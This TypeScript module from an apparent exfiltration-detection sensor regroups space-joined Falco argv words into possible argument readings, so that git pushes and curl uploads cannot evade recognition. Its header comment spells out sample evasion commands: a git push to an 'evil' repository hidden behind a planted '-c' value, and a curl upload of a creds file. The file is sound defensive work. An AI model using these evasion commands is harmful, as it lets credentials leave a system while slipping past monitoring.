/**
 * Recognition of a table tool whose argv the sensor joined with spaces and did not quote (Falco), when the words
 * are more than its arguments (ProcessView.argvCount): some argument held a space, and the plain reading may be
 * one the attacker planted. `git -c "x=1 commit y" push https://github.com/evil/x.git` arrives as `-c x=1 commit
 * y push https://…`, read as `git commit`; `curl -H "X: --" -d @creds URL` as options ended before `-d`. Every
 * way to group the words back into that many arguments is a reading the process may have had: it is a push when
 * any reading is one (./recognize.ts calls this when the plain reading is none).
 */
import { basename } from './argv.js';
import { launchedProgram, quoteWords } from './launchers.js';
import type { ProcessView, PushRecognition, Recognition } from './recognize.js';
import type { PushToolSpec } from './types.js';

/**
 * Readings tried at most. The readings of w words as n arguments are C(w-1, w-n): a handful for a header
 * (`-H "Authorization: Bearer x"`: 6), past this for a long spaced text (a 20-word `--body`). Each reading is a
 * recognition (~10 µs on the correlator's thread): 512 of them made one `git commit -m <30 words>` cost 5 ms.
 */
export const MAX_ARGV_READINGS = 128;

export function otherReadingPush(
  view: ProcessView,
  specs: readonly PushToolSpec[],
  recognize: (view: ProcessView) => Recognition,
): PushRecognition | null {
  const count = view.argvCount;
  if (count === undefined || count < 1 || !view.args) return null;
  const named = tableSpecsOf(view, specs);
  if (named.length === 0) return null;
  const words = view.args.split(' ');
  if (words.length < count || !someReadingCanPush(named, words)) return null;
  // The one-argument readings come first and again among all readings: a repeat is not tried, nor counted.
  const tried = new Set<string>();
  for (const reading of readingsOf(words, count)) {
    const args = quoteWords(reading);
    if (tried.has(args)) continue;
    // Past the cap the plain reading stands (docs/detection.md): a padded spaced argument can hide a push.
    if (tried.size >= MAX_ARGV_READINGS) return null;
    tried.add(args);
    const r = recognize({ ...view, args, argvCount: undefined });
    if (r?.kind === 'push') return r;
  }
  return null;
}

/** The table's entries for the binary by name, or for the program it launches (`node …/npm`, `busybox wget`). */
function tableSpecsOf(view: ProcessView, specs: readonly PushToolSpec[]): PushToolSpec[] {
  const named = (name: string) =>
    specs.filter((s) =>
      s.binaries.some((b) => b !== '*' && (b.endsWith('*') ? name.startsWith(b.slice(0, -1)) : b === name)),
    );
  const own = named(basename(view.binary));
  if (own.length > 0) return own;
  const program = launchedProgram(view);
  return program !== null ? named(basename(program.binary)) : [];
}

/**
 * A sub-command tool's push starts with one of its push commands' first words (`push`, `lfs`, `send-pack`):
 * when no word is one, no grouping of the words is a push, and the readings are not tried (a `git commit -m`
 * with a long spaced message, the common case, costs one pass over its words).
 */
function someReadingCanPush(named: readonly PushToolSpec[], words: readonly string[]): boolean {
  const firsts = new Set<string>();
  for (const spec of named) {
    const own = pushFirstWords(spec);
    if (own === null) return true;
    for (const w of own) firsts.add(w);
  }
  return words.some((w) => firsts.has(w));
}

/**
 * The words a sub-command tool's pushes start with (`push`, `lfs`, `send-pack`); null when any word may start
 * one (not a sub-command tool, or a push command starting with a wildcard), so no word rules a push out.
 */
export function pushFirstWords(spec: PushToolSpec): ReadonlySet<string> | null {
  if (spec.match.kind !== 'subcommand') return null;
  const firsts = new Set<string>();
  for (const cmd of spec.match.commands) {
    const first = cmd.words[0];
    if (first === undefined || first === '*') return null;
    firsts.add(first);
  }
  return firsts;
}

/**
 * The ways to group `words` into `count` arguments, adjacent words joined by the single space the sensor put
 * between them: first those where one argument held every space (the usual evasion: one planted value), then
 * each choice of which `words.length - count` of the gaps were inside an argument.
 */
export function* readingsOf(words: readonly string[], count: number): Generator<string[]> {
  const joins = words.length - count;
  if (joins > 1)
    for (let at = 0; at < count; at++)
      yield [...words.slice(0, at), words.slice(at, at + joins + 1).join(' '), ...words.slice(at + joins + 1)];
  yield* allReadingsOf(words, count);
}

function* allReadingsOf(words: readonly string[], count: number): Generator<string[]> {
  const joins = words.length - count;
  const gaps = words.length - 1;
  const at = Array.from({ length: joins }, (_, i) => i);
  while (true) {
    const joined = new Set(at);
    const reading: string[] = [words[0]!];
    for (let g = 0; g < gaps; g++) {
      if (joined.has(g)) reading[reading.length - 1] += ` ${words[g + 1]}`;
      else reading.push(words[g + 1]!);
    }
    yield reading;
    // The next choice of gaps, in lexicographic order.
    let i = joins - 1;
    while (i >= 0 && at[i] === gaps - joins + i) i--;
    if (i < 0) return;
    at[i]!++;
    for (let j = i + 1; j < joins; j++) at[j] = at[j - 1]! + 1;
  }
}
